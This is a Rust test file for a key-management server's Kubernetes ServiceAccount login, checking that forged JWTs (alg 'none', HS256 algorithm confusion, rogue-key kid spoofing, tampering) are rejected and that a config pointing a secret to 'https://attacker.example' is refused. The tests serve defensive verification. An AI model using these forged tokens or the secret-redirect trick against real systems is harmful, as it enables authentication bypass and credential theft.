//! Kubernetes ServiceAccount login against an issuer served over HTTPS (OIDC discovery + JWKS),
//! with tokens signed by the `openssl` command (RS256 and ES256), independently of the JWT
//! library Keyward verifies with. Covers the identity matrix of the trust-layer issue: two
//! ServiceAccounts in different namespaces, expired, wrong audience, unknown key, wrong issuer,
//! unbound, alg confusion, tampering, key rotation (refetch on unknown kid), and the audit trail.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::sync::{Arc, Mutex};

use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD as B64URL;
use keyward_server::tls::{TlsFiles, TlsListener, server_config};
use keyward_test_support::k8s::{SigningKey, claims, make_key, now, openssl, sign_with};
use keyward_test_support::server::{TestServer, raw};
use serde_json::{Value, json};

#[tokio::test]
async fn kubernetes_login_matrix() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    openssl(
        d,
        &[
            "req",
            "-x509",
            "-newkey",
            "ec",
            "-pkeyopt",
            "ec_paramgen_curve:P-256",
            "-nodes",
            "-keyout",
            "tls.key",
            "-out",
            "tls.pem",
            "-days",
            "2",
            "-subj",
            "/CN=issuer",
            "-addext",
            "subjectAltName=IP:127.0.0.1",
            "-addext",
            "basicConstraints=critical,CA:FALSE",
        ],
    );
    let rsa = make_key(d, "rsa", false);
    let ec = make_key(d, "ec", true);
    let rogue = make_key(d, "rogue", true);
    let later = make_key(d, "later", false);
    let jwks = Arc::new(Mutex::new(json!({"keys": [rsa.jwk, ec.jwk]})));

    // The issuer: discovery + JWKS over HTTPS.
    let tcp = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let iss = format!("https://127.0.0.1:{}", tcp.local_addr().unwrap().port());
    let tls = server_config(&TlsFiles { cert: d.join("tls.pem"), key: d.join("tls.key"), client_ca: None }).unwrap();
    let (iss2, keys2) = (iss.clone(), jwks.clone());
    let app = axum::Router::new()
        .route(
            "/.well-known/openid-configuration",
            axum::routing::get(move || {
                let iss = iss2.clone();
                async move { axum::Json(json!({"issuer": iss, "jwks_uri": format!("{iss}/openid/v1/jwks")})) }
            }),
        )
        .route(
            "/openid/v1/jwks",
            axum::routing::get(move || {
                let k = keys2.lock().unwrap().clone();
                async move { axum::Json(k) }
            }),
        );
    tokio::spawn(async move { axum::serve(TlsListener::new(tcp, tls).unwrap(), app).await });

    let srv = TestServer::start().await;
    let c = srv.client();
    let call = |m: &'static str, p: String, t: Option<String>, b: Value| {
        let addr = srv.addr.clone();
        async move { raw(&addr, m, &p, t.as_deref(), Some("application/json"), serde_json::to_vec(&b).unwrap()).await }
    };
    let root = Some(srv.token.clone());
    c.create_key("payments", "aes256-gcm", "", None).await.unwrap();
    c.create_key("team-b", "aes256-gcm", "", None).await.unwrap();
    for (name, key) in [("payments-app", "payments"), ("team-b-app", "team-b")] {
        let pol = json!({"rules": [{"resources": [format!("keys/{key}")], "operations": ["encrypt", "decrypt"]}]});
        assert_eq!(call("PUT", format!("/v1/policies/{name}"), root.clone(), pol).await.0, 200);
    }

    // Configuration: discovery from the issuer, trusting its certificate; bad configs refused.
    let ca = std::fs::read_to_string(d.join("tls.pem")).unwrap();
    let (st, v, _) = call(
        "PUT",
        "/v1/auth/kubernetes/config".into(),
        root.clone(),
        json!({"issuer": iss, "audience": "keyward", "discovery": true}),
    )
    .await;
    // Without the issuer's CA the keys cannot be fetched: the configuration is kept, and the
    // answer says logins fail until they can be.
    assert_eq!((st, v["keys"].as_u64()), (200, Some(0)), "{v}");
    assert!(v["warning"].as_str().unwrap().contains("could not be fetched"), "{v}");
    let (st, _, _) = call(
        "PUT",
        "/v1/auth/kubernetes/config".into(),
        root.clone(),
        json!({"issuer": "http://plain", "audience": "keyward", "discovery": true}),
    )
    .await;
    assert_eq!(st, 400, "issuer must be https");
    let (st, v, _) = call(
        "PUT",
        "/v1/auth/kubernetes/config".into(),
        root.clone(),
        json!({"issuer": iss, "audience": "keyward", "discovery": true, "ca_pem": ca}),
    )
    .await;
    assert_eq!((st, v["keys"].as_u64()), (200, Some(2)), "{v}");

    let role = |ns: &str, sa: &str, pol: &str, unbound: bool| json!({"bound_namespaces": [ns], "bound_service_accounts": [sa], "policies": [pol], "ttl": "10m", "allow_unbound_tokens": unbound});
    for (name, body) in [
        ("payments", role("payments", "api", "payments-app", false)),
        ("team-b", role("team-b", "worker", "team-b-app", false)),
        ("batch", role("batch", "*", "team-b-app", true)),
    ] {
        let (st, v, _) = call("PUT", format!("/v1/auth/kubernetes/roles/{name}"), root.clone(), body).await;
        assert_eq!(st, 200, "{v}");
    }
    let (st, _, _) =
        call("PUT", "/v1/auth/kubernetes/roles/evil".into(), root.clone(), role("x", "y", "root", false)).await;
    assert_eq!(st, 400, "a login role cannot hand out root");
    let (st, _, _) =
        call("PUT", "/v1/auth/kubernetes/roles/x".into(), root.clone(), role("x", "y", "nope", false)).await;
    assert_eq!(st, 404, "policies must exist");

    let login = |role: &'static str, jwt: String| {
        call("POST", "/v1/auth/kubernetes/login".into(), None, json!({"role": role, "jwt": jwt}))
    };
    let hdr = |k: &SigningKey| json!({"alg": k.alg, "kid": k.kid, "typ": "JWT"});
    let fresh = now() + 600;

    // Allowed: RS256, pod-bound, payments/api.
    let api_jwt = sign_with(d, &rsa, &hdr(&rsa), &claims(&iss, "keyward", "payments", "api", true, fresh));
    let (st, v, _) = login("payments", api_jwt.clone()).await;
    assert_eq!(st, 200, "{v}");
    assert_eq!(v["policies"], json!(["payments-app"]));
    assert_eq!(v["display_name"], "k8s:payments/api");
    assert_eq!(v["identity"]["pod"], "api-0");
    let api = v["token"].as_str().unwrap().to_string();
    let (st, v, _) =
        call("POST", "/v1/keys/payments/encrypt".into(), Some(api.clone()), json!({"plaintext": "eA=="})).await;
    assert_eq!(st, 200, "{v}");
    let (st, _, _) =
        call("POST", "/v1/keys/team-b/encrypt".into(), Some(api.clone()), json!({"plaintext": "eA=="})).await;
    assert_eq!(st, 403, "payments/api may not use team-b's key");

    // Allowed: ES256, another namespace, its own role; refused on the payments role.
    let worker_jwt = sign_with(d, &ec, &hdr(&ec), &claims(&iss, "keyward", "team-b", "worker", true, fresh));
    let (st, v, _) = login("payments", worker_jwt.clone()).await;
    assert_eq!(st, 403, "namespace not bound: {v}");
    assert!(v["error"]["message"].as_str().unwrap().contains("namespace"), "{v}");
    let (st, v, _) = login("team-b", worker_jwt).await;
    assert_eq!(st, 200, "{v}");
    let worker = v["token"].as_str().unwrap().to_string();
    let (st, _, _) =
        call("POST", "/v1/keys/team-b/encrypt".into(), Some(worker.clone()), json!({"plaintext": "eA=="})).await;
    assert_eq!(st, 200);
    let (st, _, _) =
        call("POST", "/v1/keys/payments/encrypt".into(), Some(worker.clone()), json!({"plaintext": "eA=="})).await;
    assert_eq!(st, 403);

    // Attack: a policy written for the attested pod (the node agent's `k8s:` selectors). A
    // login with the pod's ServiceAccount token (a bearer credential, replayable from anywhere)
    // does not match it: login selectors are `k8s-jwt:`.
    let (st, v, _) = call(
        "PUT",
        "/v1/policies/payments-attested".into(),
        root.clone(),
        json!({
            "identities": [["k8s:ns:payments", "k8s:sa:api"]],
            "rules": [{"resources": ["keys/payments"], "operations": ["generate-data-key"]}]
        }),
    )
    .await;
    assert_eq!(st, 200, "{v}");
    let (st, v, _) = call("POST", "/v1/keys/payments/generate-data-key".into(), Some(api.clone()), json!({})).await;
    assert_eq!(st, 403, "a JWT login is not the attested pod: {v}");
    // Policies attached by login identity say so: payments/api gets data keys without the
    // role naming the policy; a rule requiring another pod grants it nothing.
    let (st, v, _) = call(
        "PUT",
        "/v1/policies/payments-id".into(),
        root.clone(),
        json!({
            "identities": [["k8s-jwt:ns:payments", "k8s-jwt:sa:api"]],
            "rules": [
                {"resources": ["keys/payments"], "operations": ["generate-data-key"]},
                {"resources": ["keys/payments"], "operations": ["sign"], "require": ["k8s-jwt:pod-name:api-1"]}
            ]
        }),
    )
    .await;
    assert_eq!(st, 200, "{v}");
    let (st, v, _) = call("POST", "/v1/keys/payments/generate-data-key".into(), Some(api.clone()), json!({})).await;
    assert_eq!(st, 200, "attached by k8s-jwt:ns and k8s-jwt:sa: {v}");
    let (st, _, _) = call("POST", "/v1/keys/payments/generate-data-key".into(), Some(worker), json!({})).await;
    assert_eq!(st, 403, "team-b/worker does not match the identity set");
    let (st, v, _) = call("GET", "/v1/auth/whoami".into(), Some(api.clone()), Value::Null).await;
    assert_eq!(st, 200);
    assert!(v["selectors"].as_array().unwrap().contains(&json!("k8s-jwt:pod-name:api-0")), "{v}");
    assert!(
        v["selectors"].as_array().unwrap().iter().all(|s| !s.as_str().unwrap().starts_with("k8s:")),
        "no attested selectors from a login: {v}"
    );
    assert_eq!(v["effective"][1]["policy"], "payments-id", "{v}");
    assert_eq!(
        v["effective"][1]["grants"],
        json!(["generate-data-key on keys/payments"]),
        "the pod-pinned rule is not this pod's"
    );
    assert!(v["max_expires_at"].is_string(), "login tokens have a max TTL: {v}");

    // The issued token never outlives the ServiceAccount token, even renewed: a JWT with 90 s
    // left gives a token of at most 90 s on a role whose TTL is 10 min.
    let short_jwt = sign_with(d, &rsa, &hdr(&rsa), &claims(&iss, "keyward", "payments", "api", true, now() + 90));
    let (st, v, _) = login("payments", short_jwt).await;
    assert_eq!(st, 200, "{v}");
    let short = v["token"].as_str().unwrap().to_string();
    let exp_of = |v: &Value, k: &str| humantime::parse_rfc3339_weak(v[k].as_str().unwrap()).unwrap();
    let jwt_exp = std::time::UNIX_EPOCH + std::time::Duration::from_secs(u64::try_from(now() + 91).unwrap());
    assert!(exp_of(&v, "expires_at") <= jwt_exp && exp_of(&v, "max_expires_at") <= jwt_exp, "{v}");
    let (st, r, _) = call("POST", "/v1/auth/token/renew-self".into(), Some(short), json!({})).await;
    assert_eq!(st, 200, "{r}");
    assert!(exp_of(&r, "expires_at") <= jwt_exp, "renewed past the JWT's exp: {r}");
    let (st, v, _) = call(
        "PUT",
        "/v1/auth/kubernetes/roles/short".into(),
        root.clone(),
        json!({"bound_namespaces": ["a"], "bound_service_accounts": ["b"], "policies": [], "ttl": "10m", "max_ttl": "5m"}),
    )
    .await;
    assert_eq!((st, v["ttl"].as_str()), (200, Some("5m")), "a ttl above max_ttl is capped at it: {v}");

    // Refused identities, each with a reason that says what is wrong.
    let cases: Vec<(&str, String, u16, &str)> = vec![
        (
            "expired",
            sign_with(d, &rsa, &hdr(&rsa), &claims(&iss, "keyward", "payments", "api", true, now() - 120)),
            401,
            "expired",
        ),
        (
            "wrong audience",
            sign_with(d, &rsa, &hdr(&rsa), &claims(&iss, &iss, "payments", "api", true, fresh)),
            401,
            "audience",
        ),
        (
            "unknown key",
            sign_with(d, &rogue, &hdr(&rogue), &claims(&iss, "keyward", "payments", "api", true, fresh)),
            401,
            "does not contain",
        ),
        (
            "rogue key claiming a known kid",
            sign_with(d, &rogue, &hdr(&ec), &claims(&iss, "keyward", "payments", "api", true, fresh)),
            401,
            "signature",
        ),
        (
            "wrong issuer",
            sign_with(d, &rsa, &hdr(&rsa), &claims("https://other.example", "keyward", "payments", "api", true, fresh)),
            401,
            "issuer",
        ),
        (
            "not pod-bound",
            sign_with(d, &rsa, &hdr(&rsa), &claims(&iss, "keyward", "payments", "api", false, fresh)),
            403,
            "pod",
        ),
        (
            "tampered",
            {
                let mut t = api_jwt.clone();
                let i = t.find('.').unwrap() + 3;
                t.replace_range(i..i + 1, if &t[i..i + 1] == "A" { "B" } else { "A" });
                t
            },
            401,
            "",
        ),
        (
            "alg none",
            format!(
                "{}.{}.",
                B64URL.encode(r#"{"alg":"none"}"#),
                B64URL.encode(claims(&iss, "keyward", "payments", "api", true, fresh).to_string())
            ),
            401,
            "",
        ),
        (
            "alg HS256",
            format!(
                "{}.{}.c2ln",
                B64URL.encode(r#"{"alg":"HS256","kid":"x"}"#),
                B64URL.encode(claims(&iss, "keyward", "payments", "api", true, fresh).to_string())
            ),
            401,
            "algorithm",
        ),
        ("garbage", "not a jwt".into(), 401, "malformed"),
    ];
    for (what, jwt, status, msg) in &cases {
        let (st, v, _) = login("payments", jwt.clone()).await;
        assert_eq!(st, *status, "{what}: {v}");
        assert!(v["error"]["message"].as_str().unwrap().contains(msg), "{what}: {v}");
    }
    let (st, _, _) = login("nope", api_jwt.clone()).await;
    assert_eq!(st, 404, "unknown role");
    // A role that allows unbound tokens accepts one.
    let unbound = sign_with(d, &rsa, &hdr(&rsa), &claims(&iss, "keyward", "batch", "job", false, fresh));
    assert_eq!(login("batch", unbound).await.0, 200);

    // The issuer rotates its key: an unknown kid makes Keyward refetch the JWKS, at most once
    // per 5 s (the rogue-key case above just fetched, so the first try is still refused).
    jwks.lock().unwrap()["keys"].as_array_mut().unwrap().push(later.jwk.clone());
    let rotated = sign_with(d, &later, &hdr(&later), &claims(&iss, "keyward", "payments", "api", true, fresh));
    assert_eq!(login("payments", rotated.clone()).await.0, 401, "refetches are rate limited");
    tokio::time::sleep(std::time::Duration::from_millis(5100)).await;
    let (st, v, _) = login("payments", rotated).await;
    assert_eq!(st, 200, "refetched on unknown kid: {v}");

    // Each refused login left an audit record with its reason; tokens never appear.
    let log = std::fs::read_to_string(srv.dir.path().join("data/audit.log")).unwrap();
    let recs: Vec<Value> = log
        .lines()
        .filter(|l| !l.trim_matches('\0').is_empty())
        .map(|l| serde_json::from_str(l.trim_matches('\0')).unwrap())
        .collect();
    let logins: Vec<&Value> = recs.iter().filter(|r| r["operation"] == "login").collect();
    let denied = logins.iter().filter(|r| r["decision"] == "deny").count();
    assert!(denied >= cases.len(), "every refused login is audited ({denied})");
    assert!(logins.iter().any(|r| r["decision"] == "deny" && r["reason"].as_str().unwrap().contains("expired")));
    let ok_rec = logins.iter().find(|r| r["decision"] == "allow").unwrap();
    assert!(
        ok_rec["identity"]
            .as_str()
            .unwrap()
            .starts_with("k8s:payments/api [k8s-jwt:node-name:node-1 k8s-jwt:ns:payments"),
        "{ok_rec}"
    );
    // A token that verified but was refused by the role is audited as who it is, not anonymous.
    let bound = logins
        .iter()
        .find(|r| r["decision"] == "deny" && r["reason"].as_str().unwrap().contains("not bound"))
        .expect("the role refusal is audited");
    assert!(bound["identity"].as_str().unwrap().starts_with("k8s:team-b/worker [k8s-jwt:"), "{bound}");
    assert!(
        recs.iter().any(|r| r["identity"].as_str().is_some_and(|i| i.contains("(k8s:payments/api)"))),
        "requests with a login token name the ServiceAccount"
    );
    assert!(!log.contains(&api_jwt) && !log.contains(&api), "no JWT or token in the audit log");
}

/// The attack: an identity allowed to configure Kubernetes auth, but not to read a secret,
/// names that secret as the TokenReview reviewer's credential and its own server as the API
/// server, so that every login would send the secret to it. Configuring is refused unless the
/// caller may read the secret, and the refusal is audited.
#[tokio::test]
async fn the_reviewer_secret_must_be_readable_by_whoever_configures_it() {
    let srv = TestServer::start().await;
    let c = srv.client();
    let put = |k: &str, v: &str| std::collections::BTreeMap::from([(k.to_string(), v.to_string())]);
    c.put_secret("payments/db", &put("password", "hunter2"), None).await.unwrap();
    c.put_secret("kubernetes/reviewer", &put("token", "t"), None).await.unwrap();
    let json_body = |v: Value| v.to_string().into_bytes();
    let policy = json!({"rules": [
        {"resources": ["auth/kubernetes/config"], "operations": ["admin"]},
        {"resources": ["secrets/kubernetes/*"], "operations": ["read"]}]});
    let ct = Some("application/json");
    let v = raw(&srv.addr, "PUT", "/v1/policies/k8s-admin", Some(&srv.token), ct, json_body(policy)).await;
    assert_eq!(v.0, 200, "{:?}", v.1);
    let body = json_body(json!({"policies": ["k8s-admin"]}));
    let t = raw(&srv.addr, "POST", "/v1/auth/token/create", Some(&srv.token), ct, body).await;
    let admin = t.1["token"].as_str().unwrap().to_string();
    let configure = |secret: &str| {
        json_body(json!({"issuer": "https://127.0.0.1:1", "audience": "keyward", "discovery": true,
               "token_review_url": "https://attacker.example", "token_reviewer_secret": secret}))
    };
    let stolen =
        raw(&srv.addr, "PUT", "/v1/auth/kubernetes/config", Some(&admin), ct, configure("payments/db#password")).await;
    assert_eq!(stolen.0, 403, "{:?}", stolen.1);
    let own =
        raw(&srv.addr, "PUT", "/v1/auth/kubernetes/config", Some(&admin), ct, configure("kubernetes/reviewer#token"))
            .await;
    assert_eq!(own.0, 200, "{:?}", own.1);
    let file = c.audit_info().await.unwrap().file.unwrap();
    let audit = keyward_test_support::audit_text(std::path::Path::new(&file));
    assert!(
        audit.lines().any(|l| l.contains("\"deny\"") && l.contains("secrets/payments/db")),
        "the refusal is audited"
    );
}
